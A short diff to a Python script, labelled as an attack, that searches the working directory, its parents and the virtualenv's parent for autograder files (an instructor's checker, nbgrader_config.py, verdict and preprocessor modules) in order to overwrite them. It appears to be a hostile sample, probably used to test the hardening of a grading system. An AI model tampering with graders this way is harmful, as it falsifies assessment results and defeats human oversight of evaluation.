@@ -1,11 +1,10 @@
 # Attack (writing): rewrites the instructor's checker and the nbgrader configuration, so that
 # every later student (and every later run) is graded by the attacker's rules.
-import glob
 import os
 import sys
 
 _roots = [os.getcwd()] + [os.path.join(os.getcwd(), *[".."] * depth) for depth in range(1, 7)]
-_roots += ["/work/main", os.path.dirname(sys.prefix)]
+_roots += [os.path.dirname(sys.prefix)]  # the course, if the virtualenv is in it
 for _root in _roots:
     for _name in ("solutions/challenge/heatmap_check.py", "nbgrader_config.py",
                   "autograde/checker/verdicts.py", "autograde/preprocessors/grade_from_evidence.py"):
